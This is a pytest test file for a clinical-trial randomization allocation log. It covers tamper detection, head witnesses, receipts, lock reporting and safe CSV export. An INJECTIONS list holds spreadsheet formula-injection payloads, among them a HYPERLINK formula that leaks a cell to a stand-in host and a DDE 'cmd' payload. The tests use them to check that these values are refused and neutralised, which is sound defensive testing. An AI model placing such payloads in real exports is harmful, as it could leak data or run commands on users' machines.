"""The allocation log, issue 24: no byte can crash verification or make it unbounded, a cut at
the end is detected without a published head (head witness, receipts), the lock says who holds
the log, ids and exports a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import tracemalloc
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

import trialnb.randomization.log as logmod
from trialnb.randomization import (AllocationLog, AllocationReceipt, PocockSimon, StratifiedPermutedBlock,
                                   entries_from_csv, simulate_patients, verify_chain)
from trialnb.errors import AllocationLogError
from trialnb.randomization.log import ERROR_KINDS

KEY = bytes(range(32))
OTHER_KEY = bytes(range(1, 33))
PATS = simulate_patients(40, np.random.default_rng(11))
ROOT = Path(__file__).resolve().parents[1]
TS = "2026-11-29T10:00:00+00:00"


def _fill(log: AllocationLog, n: int, start: int = 0) -> list:
    return [log.allocate(PATS[i % len(PATS)], patient_id=f"P{i + 1:03d}", timestamp=TS)
            for i in range(start, start + n)]


def _made(folder: Path, n: int = 6, **kw) -> tuple[Path, str]:
    path = folder / "log.jsonl"
    log = AllocationLog.create(path, PocockSimon(), seed=2026, key=KEY, **kw)
    _fill(log, n)
    head = log.head
    log.close()
    return path, head


def _lines(path: Path) -> list[dict]:
    return [json.loads(x) for x in path.read_text().splitlines()]


def _canon(r: dict) -> str:
    return json.dumps(r, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


def _write(path: Path, records: list[dict]) -> None:
    path.write_text("".join(_canon(r) + "\n" for r in records))


def _resign(recs: list[dict], start: int) -> None:
    """What only the key holder can do: re-sign every line from ``start`` on."""
    keys = logmod._Keys(KEY)
    for i in range(start, len(recs)):
        if i:
            recs[i]["prev"] = recs[i - 1]["mac"]
        recs[i]["mac"] = keys.sign({k: v for k, v in recs[i].items() if k != "mac"})


# ---- any single-field edit of any record: a named AllocationLogError, nothing else -------------

_SENTINEL = "\x00trialnb-edit\x00"
_RAW_VALUES = [
    "1" + "0" * 5000,                  # beyond Python's 4300-digit int conversion limit
    "1" + "0" * 299,                   # a 300-digit integer (refused before parsing)
    "-" + "9" * 40,
    "1e400", "-1e400", "NaN", "Infinity",
    "[" * 3000 + "]" * 3000,           # nested deeper than the interpreter recurses
    '"\\ud800"',                       # a lone surrogate
    '{"a":{"b":{"c":[1,2,{"d":null}]}}}',
    "1.0", "1e0", "true", "null", '""', "[]", "{}",
]


@pytest.fixture(scope="module")
def eight(tmp_path_factory):
    folder = tmp_path_factory.mktemp("edit")
    path, head = _made(folder, 8)
    return path.read_bytes(), path.with_name(path.name + ".witness").read_bytes(), head


def _value_json() -> st.SearchStrategy[str]:
    scalars = st.one_of(
        st.integers(-(10 ** 30), 10 ** 30), st.integers(10 ** 8, 10 ** 18), st.floats(allow_nan=True),
        st.text(max_size=30), st.text(alphabet=st.characters(min_codepoint=0x80), min_size=1, max_size=30),
        st.booleans(), st.none(),
    )
    nested = st.recursive(scalars, lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=5), c,
                                                                                        max_size=3), max_leaves=8)
    return st.one_of(nested.map(lambda v: json.dumps(v, ensure_ascii=False)), st.sampled_from(_RAW_VALUES))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_single_field_edit_is_a_named_allocation_log_error(eight, tmp_path, data):
    raw, witness, head = eight
    lines = raw.decode("utf-8").splitlines()
    i = data.draw(st.integers(0, len(lines) - 1), label="line")
    rec = json.loads(lines[i])
    field = data.draw(st.sampled_from(sorted(rec) + ["extra"]), label="field")
    value = data.draw(_value_json(), label="value")
    try:
        assume(json.loads(value) != rec.get(field, _SENTINEL) or field not in rec)
    except (ValueError, RecursionError):
        pass
    edited = dict(rec, **{field: _SENTINEL})
    text = _canon(edited).replace(json.dumps(_SENTINEL, ensure_ascii=False), value, 1)
    lines[i] = text
    path = tmp_path / f"e{abs(hash((i, field, value))) % 10 ** 12}.jsonl"
    path.write_bytes(("\n".join(lines) + "\n").encode("utf-8", "surrogatepass"))
    path.with_name(path.name + ".witness").write_bytes(witness)
    for call in (lambda: AllocationLog.open(path, key=KEY), lambda: AllocationLog.verify_file(path, key=KEY),
                 lambda: AllocationLog.verify_file(path, key=KEY, head=head),
                 lambda: AllocationLog.verify_file(path, key=OTHER_KEY)):
        with pytest.raises(AllocationLogError) as e:
            call()
        assert e.value.kind in ERROR_KINDS
        assert len(str(e.value)) < 2000  # bounded, whatever the value


@pytest.mark.parametrize("seq", [100_000_000, 10 ** 18, -5, 0])
def test_an_edited_seq_is_checked_in_memory_bounded_by_the_file(tmp_path, seq):
    """Issue 24: seq edited to 100,000,000 made verification build set(range(1, 10^8 + 1))
    (MemoryError at 1.3 GB). Now it is an edit, found in a few hundred kB."""
    path, head = _made(tmp_path, 6)
    recs = _lines(path)
    recs[-1]["seq"] = seq
    _write(path, recs)
    tracemalloc.start()
    try:
        with pytest.raises(AllocationLogError) as e:
            AllocationLog.verify_file(path, key=KEY, head=head)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert e.value.kind in ("edited", "forged")
    assert peak < 2_000_000, peak


def test_a_signed_gap_is_named_deleted_in_bounded_memory(tmp_path):
    """Even a chain signed with the key whose numbers jump to 10^15 is judged without building
    the missing numbers: 'deleted', with the first ten listed."""
    path, _ = _made(tmp_path, 4)
    recs = _lines(path)
    recs[-1]["seq"] = 10 ** 15
    _resign(recs, 4)
    _write(path, recs)
    tracemalloc.start()
    try:
        problems = verify_chain(recs, KEY)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert problems[0].startswith("deleted: 999999999999996 entries missing") and "[4, 5, 6" in problems[0]
    assert peak < 1_000_000


@pytest.mark.parametrize("mac", ["é" * 64, "\u2603", "f" * 63 + "ſ", 12, None, ["x"], {"a": 1}])
def test_a_mac_of_any_type_or_text_is_reported_not_crashed(tmp_path, mac):
    """Issue 24: a mac with a non-ASCII character raised TypeError from hmac.compare_digest."""
    path, head = _made(tmp_path, 5)
    recs = _lines(path)
    recs[3]["mac"] = mac
    _write(path, recs)
    with pytest.raises(AllocationLogError) as e:
        AllocationLog.verify_file(path, key=KEY, head=head)
    assert e.value.kind in ("edited", "forged")
    assert verify_chain(recs, KEY)  # the same through the public records checker
    assert verify_chain([recs[0], {"seq": {1, 2}}], KEY)  # not even JSON: a problem, not a TypeError


def test_bad_head_and_receipt_arguments_are_named(tmp_path):
    path, _ = _made(tmp_path, 2)
    for head in ("abc", 17, "G" * 64, True):
        with pytest.raises(AllocationLogError, match="head must be a log head") as e:
            AllocationLog.verify_file(path, key=KEY, head=head)
        assert e.value.kind == "malformed"
    for receipts in ("2-0123456789abcdef", [3], ["2-xyz"], ["0-0123456789abcdef0"], [None]):
        with pytest.raises(AllocationLogError, match="receipt") as e:
            AllocationLog.verify_file(path, key=KEY, receipts=receipts)
    with pytest.raises(AllocationLogError, match="is a folder"):
        AllocationLog.open(tmp_path, key=KEY)


# ---- receipts and the head witness ----------------------------------------------------------------


def test_every_allocation_returns_a_receipt_for_the_crf(tmp_path):
    path = tmp_path / "r.jsonl"
    log = AllocationLog.create(path, PocockSimon(), seed=3, key=KEY)
    entries = _fill(log, 5)
    r = entries[2].receipt
    assert isinstance(r, AllocationReceipt) and r.seq == 3 and r.head == entries[2]["mac"]
    assert r.code == f"3-{entries[2]['mac'][:16]}" and r.code in str(r) and "P003" in str(r)
    assert log.receipt(3) == r and log.receipt() == entries[-1].receipt
    assert AllocationReceipt.parse(r.code.upper()) == AllocationReceipt(3, entries[2]["mac"][:16])
    with pytest.raises(AllocationLogError, match=r"seq must be an allocation number in \[1, 5\]"):
        log.receipt(0)
    with pytest.raises(AllocationLogError):
        log.receipt(True)
    assert log.verify(receipts=[e.receipt for e in entries])
    log.close()
    codes = [e.receipt.code for e in entries]
    assert AllocationLog.verify_file(path, key=KEY, receipts=codes) == 5
    with AllocationLog.open(path, key=KEY, receipts=codes) as again:
        assert len(again) == 5


def test_receipts_expose_a_rewrite_made_with_the_key(tmp_path):
    """The key holder can rewrite the log and its witness consistently; the CRFs' receipts,
    outside their reach, still show it (kind "rewritten"), and the old witness shows it too."""
    path, _ = _made(tmp_path, 6)
    with AllocationLog.open(path, key=KEY) as log:
        codes = [log.receipt(s).code for s in range(1, 7)]
    recs = _lines(path)
    recs[3]["timestamp"] = "2026-11-30T10:00:00+00:00"  # a changed date of randomization
    _resign(recs, 3)
    _write(path, recs)
    with pytest.raises(AllocationLogError, match="rewritten") as e:
        AllocationLog.open(path, key=KEY)  # the witness still holds the old head of entry 6
    assert e.value.kind == "rewritten"
    with pytest.raises(AllocationLogError, match="receipt 3-") as e:
        AllocationLog.verify_file(path, key=KEY, receipts=codes)
    assert e.value.kind == "rewritten" and len(e.value.problems) == 4  # entries 3 to 6


def test_witness_in_another_folder_missing_damaged_or_of_another_log(tmp_path):
    logs, wits = tmp_path / "logs", tmp_path / "elsewhere"
    logs.mkdir()
    wits.mkdir()
    path, _ = _made(logs, 3, witness_dir=wits)
    witness = wits / "log.jsonl.witness"
    assert witness.is_file() and not (logs / "log.jsonl.witness").exists()
    with pytest.raises(AllocationLogError, match="pass witness_dir") as e:
        AllocationLog.open(path, key=KEY)  # looked for next to the log
    assert e.value.kind == "witness"
    with AllocationLog.open(path, key=KEY, witness_dir=wits) as log:
        _fill(log, 1, start=3)
    assert json.loads(witness.read_text())["seq"] == 4
    good = witness.read_bytes()
    for damage, match in ((b"", "not a head witness"), (good.replace(b'"seq":4', b'"seq":3'), "does not verify"),
                          (b"x" * 10_000, "not a head witness")):
        witness.write_bytes(damage)
        with pytest.raises(AllocationLogError, match=match) as e:
            AllocationLog.open(path, key=KEY, witness_dir=wits)
        assert e.value.kind == "witness"
    other = tmp_path / "other"
    other.mkdir()
    _made(other, 4)
    witness.write_bytes((other / "log.jsonl.witness").read_bytes())  # same name, another log
    with pytest.raises(AllocationLogError, match="belongs to another log"):
        AllocationLog.open(path, key=KEY, witness_dir=wits)
    with pytest.raises(AllocationLogError, match="not an existing folder"):
        AllocationLog.open(path, key=KEY, witness_dir=tmp_path / "missing")
    with pytest.raises(AllocationLogError, match="needs evidence"):
        AllocationLog.open(path, key=KEY, witness_dir=wits, restore_witness=True)
    witness.unlink()
    with AllocationLog.open(path, key=KEY, witness_dir=wits, restore_witness=True,
                            receipts=[f"2-{_lines(path)[2]['mac'][:16]}"]) as log:
        assert len(log) == 4
    assert json.loads(witness.read_text())["seq"] == 4
    assert len(AllocationLog.open(path, key=KEY, witness_dir=wits)) == 4
    # a witness left from a deleted log of the same name: create refuses
    path.unlink()
    with pytest.raises(AllocationLogError, match="already exists") as e:
        AllocationLog.create(path, PocockSimon(), seed=1, key=KEY, witness_dir=wits)
    assert e.value.kind == "exists" and not path.exists()


@pytest.mark.parametrize("fail_at", ["witness", "witness_and_rollback"])
def test_a_failed_witness_write_allocates_nothing(tmp_path, monkeypatch, fail_at):
    path = tmp_path / "w.jsonl"
    witness = path.with_name(path.name + ".witness")
    log = AllocationLog.create(path, PocockSimon(), seed=9, key=KEY)
    _fill(log, 3)
    before, wbefore, state = path.read_bytes(), witness.read_bytes(), (log.procedure.n, log.head)

    def full(path, text):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(logmod, "_write_witness", full)
    if fail_at == "witness_and_rollback":
        monkeypatch.setattr(logmod, "_fsync", lambda fd: (_ for _ in ()).throw(OSError(5, "I/O error")))
    with pytest.raises(AllocationLogError, match="nothing was allocated") as e:
        log.allocate(PATS[3], patient_id="P004")
    assert e.value.kind == "io" and (log.procedure.n, log.head) == state and len(log) == 3
    assert witness.read_bytes() == wbefore
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
    monkeypatch.undo()
    if fail_at == "witness":
        assert path.read_bytes() == before
        log.allocate(PATS[3], patient_id="P004")
        assert len(log) == 4 and log.verify()
    else:  # the line could not be cut back: refused until reopened; the witness still says 3
        with pytest.raises(AllocationLogError, match="reopen"):
            log.allocate(PATS[3], patient_id="P004")
        log.close()
        with AllocationLog.open(path, key=KEY) as again:
            assert len(again) in (3, 4)


def test_create_without_room_for_the_witness_leaves_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(logmod, "_write_witness", lambda p, t: (_ for _ in ()).throw(OSError(28, "No space")))
    with pytest.raises(AllocationLogError, match="head witness") as e:
        AllocationLog.create(tmp_path / "n.jsonl", PocockSimon(), seed=1, key=KEY)
    assert e.value.kind == "io" and list(tmp_path.iterdir()) == []


# ---- who holds the lock ------------------------------------------------------------------------


def test_open_twice_in_this_process_says_so(tmp_path):
    path, _ = _made(tmp_path, 2)
    first = AllocationLog.open(path, key=KEY)
    with pytest.raises(AllocationLogError, match=r"already open in this process \(pid \d+\), by the AllocationLog "
                                                 r"object 0x[0-9a-f]+ made by AllocationLog.open") as e:
        AllocationLog.open(path, key=KEY)
    assert e.value.kind == "locked" and "another process" not in str(e.value)
    first.close()
    with AllocationLog.open(path, key=KEY) as again:
        assert len(again) == 2
    created = AllocationLog.create(tmp_path / "c.jsonl", PocockSimon(), seed=1, key=KEY)
    with pytest.raises(AllocationLogError, match="made by AllocationLog.create"):
        AllocationLog.open(tmp_path / "c.jsonl", key=KEY)
    created.close()


HOLDER = r"""
import sys
from trialnb.randomization import AllocationLog
log = AllocationLog.open(sys.argv[1], key=bytes.fromhex(sys.argv[2]))
print("HOLDING", flush=True)
sys.stdin.readline()
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the holder's pid comes from /proc/locks")
def test_open_held_by_another_process_names_its_pid(tmp_path):
    path, _ = _made(tmp_path, 2)
    env = dict(os.environ, PYTHONPATH=str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", ""))
    child = subprocess.Popen([sys.executable, "-c", HOLDER, str(path), KEY.hex()], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, text=True, env=env)
    try:
        assert child.stdout.readline().strip() == "HOLDING"
        with pytest.raises(AllocationLogError, match=rf"in use by another process \(pid {child.pid}\), "
                                                     rf"not this one \(pid {os.getpid()}\)") as e:
            AllocationLog.open(path, key=KEY)
        assert e.value.kind == "locked"
    finally:
        child.communicate("\n", timeout=30)
    with AllocationLog.open(path, key=KEY) as log:
        assert len(log) == 2


# ---- ids and exports a spreadsheet would run -------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1",
              "@SUM(1+1)", "\t=1+1", "\r=1+1", "\uff1d1+1", "'=1+1", " =1+1"]


@pytest.mark.parametrize("pid", INJECTIONS)
def test_allocate_refuses_ids_outside_the_trials_pattern(pid):
    log = AllocationLog.in_memory(PocockSimon(), seed=1, key=KEY)
    with pytest.raises(ValueError, match="patient_id must be 1 to 64 ASCII letters, digits"):
        log.allocate(PATS[0], patient_id=pid)
    assert len(log) == 0 and log.header["patient_id_pattern"] is not None


def test_exports_neutralise_every_formula_cell_and_round_trip(tmp_path):
    """A log made without an id pattern (or an older log) still exports nothing a spreadsheet
    would run; our own reader gets every cell back and the chain re-verifies."""
    proc = StratifiedPermutedBlock({"er": ["+", "-"], "site": ["=a", "@b"]}, block_sizes=(2,))
    log = AllocationLog.create(tmp_path / "x.jsonl", proc, seed=1, key=KEY, patient_id_pattern=None)
    ids = [p for p in INJECTIONS if p.strip() and not p.startswith(("\t", "\r", " "))] + ["-5", "P1"]
    for k, pid in enumerate(ids):
        log.allocate({"er": "+-"[k % 2], "site": ["=a", "@b"][k % 3 % 2]}, patient_id=pid, timestamp=TS)
    for text in (log.to_csv(), log.site_list()):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r", "\uff1d")), (cell, row)
                assert not cell.startswith("-") or cell == "-5", cell  # a number is data
    entries = entries_from_csv(log.to_csv(), log.header)
    assert entries == log.entries
    assert verify_chain([log.header] + entries, KEY, head=log.head) == []
    site = list(csv.DictReader(io.StringIO(log.site_list())))
    assert [r["patient_id"] for r in site][:3] == ["'" + ids[0], "'" + ids[1], "'" + ids[2]]
    log.close()


def test_export_is_atomic_and_never_overwrites(tmp_path, monkeypatch):
    path, head = _made(tmp_path, 3)
    with AllocationLog.open(path, key=KEY) as log:
        target = tmp_path / "review.jsonl"

        def full(fd, data):
            os.write(fd, data[: len(data) // 2])
            raise OSError(28, "No space left on device")

        monkeypatch.setattr("trialnb.files._write_fd", full)
        with pytest.raises(OSError, match="No space"):
            log.export(target)
        monkeypatch.undo()
        assert not target.exists() and not [p for p in tmp_path.iterdir() if p.suffix == ".tmp"]
        log.export(target)
        assert AllocationLog.verify_file(target, key=KEY, head=head) == 3
        with pytest.raises(AllocationLogError, match="exists"):
            log.export(target)
